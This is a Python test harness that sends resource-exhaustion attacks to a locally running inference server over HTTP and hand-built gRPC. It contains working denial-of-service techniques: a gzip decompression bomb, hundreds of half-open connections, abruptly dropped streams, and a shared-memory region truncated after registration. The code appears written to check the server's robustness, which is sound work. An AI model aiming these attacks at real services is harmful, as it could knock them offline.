# SPDX-License-Identifier: Apache-2.0
"""Attacks of attacks.py that are more than a request by HTTP: each is called with the HTTP and the gRPC port and
returns what came of it in a word or two."""
import gzip
import http.client
import itertools
import json
import os
import pathlib
import random
import socket
import struct
import time

numbers = itertools.count()
kept = {}


def status_of(port, method, path, body, headers=None):
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=120)
    try:
        conn.request(method, path, body, headers or {"Content-Type": "application/json"})
        r = conn.getresponse()
        r.read()
        return str(r.status)
    except (OSError, http.client.HTTPException) as e:
        return type(e).__name__
    finally:
        conn.close()


# ---- gRPC: HTTP/2 by hand, so that no library is needed ----

def frame(kind, flags, stream, data=b""):
    return struct.pack(">I", len(data))[1:] + struct.pack(">BBI", kind, flags, stream) + data


def literal(name, value):
    """A header field without indexing or compression (RFC 7541, 6.2.2); both shorter than 127 bytes."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def grpc_call(port, method, message, compressed):
    """What ends the call: its trailers, a reset, or the connection."""
    fields = {":method": "POST", ":scheme": "http", ":path": f"/inference.GRPCInferenceService/{method}", ":authority": "localhost",
              "content-type": "application/grpc", "te": "trailers", "grpc-encoding": "gzip"}
    data = struct.pack(">BI", compressed, len(message)) + message
    assert len(data) < 65536, "a stream's first window"
    out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + frame(1, 4, 1, b"".join(literal(*f) for f in fields.items()))
    for at in range(0, len(data), 16384):
        out += frame(0, at + 16384 >= len(data), 1, data[at:at + 16384])
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=120) as s:
            s.sendall(out)
            stream = s.makefile("rb")
            while len(head := stream.read(9)) == 9:
                size, kind, flags = int.from_bytes(head[:3], "big"), head[3], head[4]
                stream.read(size)
                if kind == 1 and flags & 1:
                    return "trailers"
                if kind in (3, 7):
                    return "reset"
    except OSError as e:
        return type(e).__name__
    return "closed"


def grpc_bomb(_, grpc):
    """58 kB that inflate to 60 MB, which are 30 million inputs of a ModelInferRequest."""
    if "bomb" not in kept:
        kept["bomb"] = gzip.compress(b"\x2a\0" * 30_000_000, 9)
    return grpc_call(grpc, "ModelInfer", kept["bomb"], 1)


# ---- connections ----

def idle_connections(port, grpc):
    """Hundreds of connections with half a request each."""
    held = []
    try:
        for i in range(300):
            s = socket.create_connection(("127.0.0.1", port if i % 2 else grpc), timeout=20)
            s.sendall(b"POST /v1/completions HTTP/1.1\r\nHost: a\r\nContent-Le" if i % 2 else b"PRI * HTTP/2.0\r\n")
            held.append(s)
        time.sleep(0.3)
        return "300 held"
    except OSError as e:
        return type(e).__name__
    finally:
        for s in held:
            s.close()


def cut_streams(port, _):
    """A stream whose client goes after a number of bytes."""
    if "model" not in kept:
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
        conn.request("GET", "/v1/models")
        kept["model"] = json.loads(conn.getresponse().read())["data"][0]["id"]
        conn.close()
    body = json.dumps({"model": kept["model"], "prompt": "The", "max_tokens": 100, "stream": True, "ignore_eos": True}).encode()
    with socket.create_connection(("127.0.0.1", port), timeout=20) as s:
        s.sendall(b"POST /v1/completions HTTP/1.1\r\nHost: localhost\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
        s.recv(random.randrange(1, 3000))
    return "cut"


# ---- shared memory ----

def region_made_shorter(port, _):
    """A region whose owner takes its memory away before the request that names it."""
    name = f"attack-{os.getpid()}-{next(numbers)}"
    path, size = pathlib.Path("/dev/shm") / name, 1 << 20
    region = f"/v2/systemsharedmemory/region/{name}"
    path.write_bytes(bytes(size))
    try:
        status_of(port, "POST", f"{region}/register", json.dumps({"key": f"/{name}", "byte_size": size, "offset": 0}))
        os.truncate(path, 0)
        return status_of(port, "POST", "/v2/models/preprocessing/infer", json.dumps({"inputs": [
            {"name": "QUERY", "datatype": "BYTES", "shape": [1, 1],
             "parameters": {"shared_memory_region": name, "shared_memory_byte_size": size}},
            {"name": "REQUEST_OUTPUT_LEN", "datatype": "INT32", "shape": [1, 1], "data": [1]}]}))
    finally:
        status_of(port, "POST", f"{region}/unregister", "{}")
        path.unlink()


CONNECTION_ATTACKS = {f.__name__: f for f in (grpc_bomb, idle_connections, cut_streams, region_made_shorter)}
